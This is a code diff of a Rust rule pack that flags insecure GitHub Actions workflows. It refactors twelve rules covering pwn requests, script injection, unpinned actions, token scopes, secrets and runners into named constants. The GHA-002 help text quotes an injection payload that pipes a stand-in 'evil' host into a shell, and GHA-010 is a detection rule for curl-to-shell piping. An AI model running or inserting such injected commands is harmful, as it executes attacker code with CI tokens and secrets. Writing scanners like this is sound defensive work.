@@ -18,185 +18,8 @@ pub static PACK: Pack = Pack {
     description: "GitHub Actions: untrusted input in privileged workflows, script injection, \
                   token permissions, secrets, runners and pinning of actions and images.",
     rules: &[
-        Rule {
-            id: "GHA-001",
-            title: "pull_request_target checks out the pull request's code",
-            description: "A workflow triggered by `pull_request_target` or `workflow_run` checks out \
-                          the head of the pull request, then runs in the base repository's context.",
-            severity: Severity::Critical,
-            help: "Those triggers get a write token and the secrets; the checked-out code (build scripts, \
-                   tests, package hooks) is the attacker's.",
-            help_uri: Some(
-                "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
-            ),
-            remediation: "Build untrusted code in a `pull_request` workflow without secrets; pass results \
-                          to a privileged workflow as artifacts and treat them as data.",
-            tags: &["security", "ci"],
-            compliance: &[],
-            kinds: KINDS,
-            check: pwn_request,
-        },
-        Rule {
-            id: "GHA-002",
-            title: "Script injection from untrusted event data",
-            description: "A `run:` script (or `actions/github-script`) expands `${{ github.event… }}` \
-                          fields an outsider controls: titles, bodies, branch names, commit messages.",
-            severity: Severity::High,
-            help: "The expression is pasted into the script before the shell runs it: a title like \
-                   `\"; curl evil | sh #` is code.",
-            help_uri: Some(
-                "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
-            ),
-            remediation: "Pass the value through `env:` (`TITLE: ${{ github.event.issue.title }}`) and use \
-                          `\"$TITLE\"` in the script.",
-            tags: &["security", "ci"],
-            compliance: &[],
-            kinds: KINDS,
-            check: script_injection,
-        },
-        Rule {
-            id: "GHA-003",
-            title: "Third-party action not pinned to a commit SHA",
-            description: "`uses: owner/action@v2` (a tag or branch) for an action outside `actions/` and \
-                          `github/`.",
-            severity: Severity::Medium,
-            help: "Tags move: whoever controls the action's repository controls what your job runs, \
-                   with your token and secrets (tj-actions/changed-files, March 2025).",
-            help_uri: Some(
-                "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions",
-            ),
-            remediation: "Pin the full 40-character commit SHA (`uses: owner/action@<sha> # v2.1.0`) and \
-                          let Dependabot update it.",
-            tags: &["supply-chain", "ci"],
-            compliance: &[],
-            kinds: KINDS,
-            check: unpinned_action,
-        },
-        Rule {
-            id: "GHA-004",
-            title: "Token granted write-all",
-            description: "`permissions: write-all` gives the job's GITHUB_TOKEN write access to every scope.",
-            severity: Severity::High,
-            help: "Any step that is compromised can push code, publish releases and change settings.",
-            help_uri: None,
-            remediation: "Grant the scopes the job needs: `permissions: {contents: read, pull-requests: write}`.",
-            tags: &["security", "ci"],
-            compliance: &[],
-            kinds: KINDS,
-            check: write_all,
-        },
-        Rule {
-            id: "GHA-005",
-            title: "Token permissions not set",
-            description: "Neither the workflow nor the job sets `permissions`, so the token gets the \
-                          repository's default, which is write for older repositories and organisations.",
-            severity: Severity::Low,
-            help: "Least privilege has to be written down to hold when the default changes.",
-            help_uri: None,
-            remediation: "Add `permissions: {contents: read}` at the top of the workflow and widen per job.",
-            tags: &["security", "ci"],
-            compliance: &[],
-            kinds: KINDS,
-            check: missing_permissions,
-        },
-        Rule {
-            id: "GHA-006",
-            title: "Secret printed in a script",
-            description: "A `run:` script echoes or prints `${{ secrets.… }}`.",
-            severity: Severity::High,
-            help: "Masking is best effort: transformed, split or encoded values end up readable in the log.",
-            help_uri: None,
-            remediation: "Never print secrets; pass them through `env:` to the program that needs them.",
-            tags: &["security", "secrets", "ci"],
-            compliance: &[],
-            kinds: KINDS,
-            check: secret_printed,
-        },
-        Rule {
-            id: "GHA-007",
-            title: "Self-hosted runner on a public trigger",
-            description: "A job runs on a `self-hosted` runner in a workflow that pull requests, forks or \
-                          comments can trigger.",
-            severity: Severity::High,
-            help: "Self-hosted runners persist between jobs: a fork's pull request can plant code for the \
-                   next, privileged job.",
-            help_uri: None,
-            remediation: "Use GitHub-hosted or ephemeral, isolated runners for public triggers.",
-            tags: &["security", "ci"],
-            compliance: &[],
-            kinds: KINDS,
-            check: self_hosted_public,
-        },
-        Rule {
-            id: "GHA-008",
-            title: "Untrusted data written to GITHUB_ENV or GITHUB_PATH",
-            description: "A script appends event data (`${{ github.event… }}`, `github.head_ref`) to \
-                          `$GITHUB_ENV` or `$GITHUB_PATH`.",
-            severity: Severity::High,
-            help: "A value with a newline defines any variable for later steps (`LD_PRELOAD`, `NODE_OPTIONS`) \
-                   or puts the attacker's directory first on PATH.",
-            help_uri: None,
-            remediation: "Validate the value, or pass it as a step output instead of an environment variable.",
-            tags: &["security", "ci"],
-            compliance: &[],
-            kinds: KINDS,
-            check: env_file_injection,
-        },
-        Rule {
-            id: "GHA-009",
-            title: "Unsafe workflow commands re-enabled",
-            description: "`ACTIONS_ALLOW_UNSECURE_COMMANDS: true` re-enables the deprecated `set-env` and \
-                          `add-path` log commands.",
-            severity: Severity::High,
-            help: "Any process that prints to the log can then set environment variables of later steps.",
-            help_uri: None,
-            remediation: "Remove the variable; write to `$GITHUB_ENV` / `$GITHUB_PATH` instead.",
-            tags: &["security", "ci"],
-            compliance: &[],
-            kinds: KINDS,
-            check: unsecure_commands,
-        },
-        Rule {
-            id: "GHA-010",
-            title: "Remote script piped to a shell",
-            description: "A `run:` script downloads with curl or wget and pipes it into a shell.",
-            severity: Severity::Medium,
-            help: "Whatever the server returns runs with the job's token and secrets; nothing verifies it.",
-            help_uri: None,
-            remediation: "Download to a file, verify its checksum or signature, then run it — or use a pinned action.",
-            tags: &["supply-chain", "ci"],
-            compliance: &[],
-            kinds: KINDS,
-            check: curl_pipe_shell,
-        },
-        Rule {
-            id: "GHA-011",
-            title: "Container image not pinned",
-            description: "A job's `container` or `services` image, or a `docker://` action, uses no tag \
-                          or `latest`.",
-            severity: Severity::Medium,
-            help: "The job runs whatever was pushed last under that name.",
-            help_uri: None,
-            remediation: "Pin a version tag, better a digest.",
-            tags: &["supply-chain", "ci"],
-            compliance: &[],
-            kinds: KINDS,
-            check: unpinned_image,
-        },
-        Rule {
-            id: "GHA-012",
-            title: "Checkout persists the token",
-            description: "`actions/checkout` without `persist-credentials: false` leaves the GITHUB_TOKEN in \
-                          `.git/config` for every later step.",
-            severity: Severity::Low,
-            help: "Later steps, and artifacts that include the workspace, can read and reuse the token.",
-            help_uri: Some("https://github.com/actions/checkout/issues/485"),
-            remediation: "Set `with: {persist-credentials: false}` unless a later step pushes.",
-            tags: &["security", "ci"],
-            compliance: &[],
-            kinds: KINDS,
-            check: persisted_credentials,
-        },
+        GHA_001, GHA_002, GHA_003, GHA_004, GHA_005, GHA_006, GHA_007, GHA_008, GHA_009, GHA_010,
+        GHA_011, GHA_012,
     ],
 };
 
@@ -271,6 +94,25 @@ fn untrusted(expression: &str) -> bool {
         })
 }
 
+pub(crate) const GHA_001: Rule = Rule {
+    id: "GHA-001",
+    title: "pull_request_target checks out the pull request's code",
+    description: "A workflow triggered by `pull_request_target` or `workflow_run` checks out \
+                      the head of the pull request, then runs in the base repository's context.",
+    severity: Severity::Critical,
+    help: "Those triggers get a write token and the secrets; the checked-out code (build scripts, \
+               tests, package hooks) is the attacker's.",
+    help_uri: Some(
+        "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
+    ),
+    remediation: "Build untrusted code in a `pull_request` workflow without secrets; pass results \
+                      to a privileged workflow as artifacts and treat them as data.",
+    tags: &["security", "ci"],
+    compliance: &[],
+    kinds: KINDS,
+    check: pwn_request,
+};
+
 fn pwn_request(resource: &Resource, cx: &mut Context<'_>) {
     let privileged = triggers(resource)
         .iter()
@@ -323,6 +165,25 @@ fn scripts<'a>(step: &Node<'a>) -> Vec<Node<'a>> {
     out
 }
 
+pub(crate) const GHA_002: Rule = Rule {
+    id: "GHA-002",
+    title: "Script injection from untrusted event data",
+    description: "A `run:` script (or `actions/github-script`) expands `${{ github.event… }}` \
+                      fields an outsider controls: titles, bodies, branch names, commit messages.",
+    severity: Severity::High,
+    help: "The expression is pasted into the script before the shell runs it: a title like \
+               `\"; curl evil | sh #` is code.",
+    help_uri: Some(
+        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
+    ),
+    remediation: "Pass the value through `env:` (`TITLE: ${{ github.event.issue.title }}`) and use \
+                      `\"$TITLE\"` in the script.",
+    tags: &["security", "ci"],
+    compliance: &[],
+    kinds: KINDS,
+    check: script_injection,
+};
+
 fn script_injection(resource: &Resource, cx: &mut Context<'_>) {
     for step in steps(resource) {
         for script in scripts(&step) {
@@ -345,6 +206,25 @@ fn script_injection(resource: &Resource, cx: &mut Context<'_>) {
 fn is_full_sha(reference: &str) -> bool {
     reference.len() == 40 && reference.bytes().all(|b| b.is_ascii_hexdigit())
 }
+
+pub(crate) const GHA_003: Rule = Rule {
+    id: "GHA-003",
+    title: "Third-party action not pinned to a commit SHA",
+    description: "`uses: owner/action@v2` (a tag or branch) for an action outside `actions/` and \
+                      `github/`.",
+    severity: Severity::Medium,
+    help: "Tags move: whoever controls the action's repository controls what your job runs, \
+               with your token and secrets (tj-actions/changed-files, March 2025).",
+    help_uri: Some(
+        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions",
+    ),
+    remediation: "Pin the full 40-character commit SHA (`uses: owner/action@<sha> # v2.1.0`) and \
+                      let Dependabot update it.",
+    tags: &["supply-chain", "ci"],
+    compliance: &[],
+    kinds: KINDS,
+    check: unpinned_action,
+};
 
 fn unpinned_action(resource: &Resource, cx: &mut Context<'_>) {
     let mut uses_nodes: Vec<Node<'_>> = steps(resource).iter().map(|s| s.get("uses")).collect();
@@ -373,6 +253,20 @@ fn unpinned_action(resource: &Resource, cx: &mut Context<'_>) {
     }
 }
 
+pub(crate) const GHA_004: Rule = Rule {
+    id: "GHA-004",
+    title: "Token granted write-all",
+    description: "`permissions: write-all` gives the job's GITHUB_TOKEN write access to every scope.",
+    severity: Severity::High,
+    help: "Any step that is compromised can push code, publish releases and change settings.",
+    help_uri: None,
+    remediation: "Grant the scopes the job needs: `permissions: {contents: read, pull-requests: write}`.",
+    tags: &["security", "ci"],
+    compliance: &[],
+    kinds: KINDS,
+    check: write_all,
+};
+
 fn write_all(resource: &Resource, cx: &mut Context<'_>) {
     let root = resource.root();
     let mut candidates = vec![root.get("permissions")];
@@ -386,6 +280,21 @@ fn write_all(resource: &Resource, cx: &mut Context<'_>) {
         }
     }
 }
+
+pub(crate) const GHA_005: Rule = Rule {
+    id: "GHA-005",
+    title: "Token permissions not set",
+    description: "Neither the workflow nor the job sets `permissions`, so the token gets the \
+                      repository's default, which is write for older repositories and organisations.",
+    severity: Severity::Low,
+    help: "Least privilege has to be written down to hold when the default changes.",
+    help_uri: None,
+    remediation: "Add `permissions: {contents: read}` at the top of the workflow and widen per job.",
+    tags: &["security", "ci"],
+    compliance: &[],
+    kinds: KINDS,
+    check: missing_permissions,
+};
 
 fn missing_permissions(resource: &Resource, cx: &mut Context<'_>) {
     let root = resource.root();
@@ -413,6 +322,20 @@ const PRINTERS: &[&str] = &[
     "Write-Output",
     "cat <<",
 ];
+
+pub(crate) const GHA_006: Rule = Rule {
+    id: "GHA-006",
+    title: "Secret printed in a script",
+    description: "A `run:` script echoes or prints `${{ secrets.… }}`.",
+    severity: Severity::High,
+    help: "Masking is best effort: transformed, split or encoded values end up readable in the log.",
+    help_uri: None,
+    remediation: "Never print secrets; pass them through `env:` to the program that needs them.",
+    tags: &["security", "secrets", "ci"],
+    compliance: &[],
+    kinds: KINDS,
+    check: secret_printed,
+};
 
 fn secret_printed(resource: &Resource, cx: &mut Context<'_>) {
     for step in steps(resource) {
@@ -445,6 +368,22 @@ const PUBLIC_TRIGGERS: &[&str] = &[
     "watch",
 ];
 
+pub(crate) const GHA_007: Rule = Rule {
+    id: "GHA-007",
+    title: "Self-hosted runner on a public trigger",
+    description: "A job runs on a `self-hosted` runner in a workflow that pull requests, forks or \
+                      comments can trigger.",
+    severity: Severity::High,
+    help: "Self-hosted runners persist between jobs: a fork's pull request can plant code for the \
+               next, privileged job.",
+    help_uri: None,
+    remediation: "Use GitHub-hosted or ephemeral, isolated runners for public triggers.",
+    tags: &["security", "ci"],
+    compliance: &[],
+    kinds: KINDS,
+    check: self_hosted_public,
+};
+
 fn self_hosted_public(resource: &Resource, cx: &mut Context<'_>) {
     if !triggers(resource)
         .iter()
@@ -476,6 +415,22 @@ fn self_hosted_public(resource: &Resource, cx: &mut Context<'_>) {
     }
 }
 
+pub(crate) const GHA_008: Rule = Rule {
+    id: "GHA-008",
+    title: "Untrusted data written to GITHUB_ENV or GITHUB_PATH",
+    description: "A script appends event data (`${{ github.event… }}`, `github.head_ref`) to \
+                      `$GITHUB_ENV` or `$GITHUB_PATH`.",
+    severity: Severity::High,
+    help: "A value with a newline defines any variable for later steps (`LD_PRELOAD`, `NODE_OPTIONS`) \
+               or puts the attacker's directory first on PATH.",
+    help_uri: None,
+    remediation: "Validate the value, or pass it as a step output instead of an environment variable.",
+    tags: &["security", "ci"],
+    compliance: &[],
+    kinds: KINDS,
+    check: env_file_injection,
+};
+
 fn env_file_injection(resource: &Resource, cx: &mut Context<'_>) {
     for step in steps(resource) {
         let run = step.get("run");
@@ -494,6 +449,21 @@ fn env_file_injection(resource: &Resource, cx: &mut Context<'_>) {
         }
     }
 }
+
+pub(crate) const GHA_009: Rule = Rule {
+    id: "GHA-009",
+    title: "Unsafe workflow commands re-enabled",
+    description: "`ACTIONS_ALLOW_UNSECURE_COMMANDS: true` re-enables the deprecated `set-env` and \
+                      `add-path` log commands.",
+    severity: Severity::High,
+    help: "Any process that prints to the log can then set environment variables of later steps.",
+    help_uri: None,
+    remediation: "Remove the variable; write to `$GITHUB_ENV` / `$GITHUB_PATH` instead.",
+    tags: &["security", "ci"],
+    compliance: &[],
+    kinds: KINDS,
+    check: unsecure_commands,
+};
 
 fn unsecure_commands(resource: &Resource, cx: &mut Context<'_>) {
     let root = resource.root();
@@ -517,6 +487,20 @@ fn unsecure_commands(resource: &Resource, cx: &mut Context<'_>) {
     }
 }
 
+pub(crate) const GHA_010: Rule = Rule {
+    id: "GHA-010",
+    title: "Remote script piped to a shell",
+    description: "A `run:` script downloads with curl or wget and pipes it into a shell.",
+    severity: Severity::Medium,
+    help: "Whatever the server returns runs with the job's token and secrets; nothing verifies it.",
+    help_uri: None,
+    remediation: "Download to a file, verify its checksum or signature, then run it — or use a pinned action.",
+    tags: &["supply-chain", "ci"],
+    compliance: &[],
+    kinds: KINDS,
+    check: curl_pipe_shell,
+};
+
 fn curl_pipe_shell(resource: &Resource, cx: &mut Context<'_>) {
     for step in steps(resource) {
         let run = step.get("run");
@@ -529,6 +513,21 @@ fn curl_pipe_shell(resource: &Resource, cx: &mut Context<'_>) {
         }
     }
 }
+
+pub(crate) const GHA_011: Rule = Rule {
+    id: "GHA-011",
+    title: "Container image not pinned",
+    description: "A job's `container` or `services` image, or a `docker://` action, uses no tag \
+                      or `latest`.",
+    severity: Severity::Medium,
+    help: "The job runs whatever was pushed last under that name.",
+    help_uri: None,
+    remediation: "Pin a version tag, better a digest.",
+    tags: &["supply-chain", "ci"],
+    compliance: &[],
+    kinds: KINDS,
+    check: unpinned_image,
+};
 
 fn unpinned_image(resource: &Resource, cx: &mut Context<'_>) {
     let mut images: Vec<Node<'_>> = Vec::new();
@@ -559,6 +558,21 @@ fn unpinned_image(resource: &Resource, cx: &mut Context<'_>) {
         }
     }
 }
+
+pub(crate) const GHA_012: Rule = Rule {
+    id: "GHA-012",
+    title: "Checkout persists the token",
+    description: "`actions/checkout` without `persist-credentials: false` leaves the GITHUB_TOKEN in \
+                      `.git/config` for every later step.",
+    severity: Severity::Low,
+    help: "Later steps, and artifacts that include the workspace, can read and reuse the token.",
+    help_uri: Some("https://github.com/actions/checkout/issues/485"),
+    remediation: "Set `with: {persist-credentials: false}` unless a later step pushes.",
+    tags: &["security", "ci"],
+    compliance: &[],
+    kinds: KINDS,
+    check: persisted_credentials,
+};
 
 fn persisted_credentials(resource: &Resource, cx: &mut Context<'_>) {
     for step in steps(resource) {
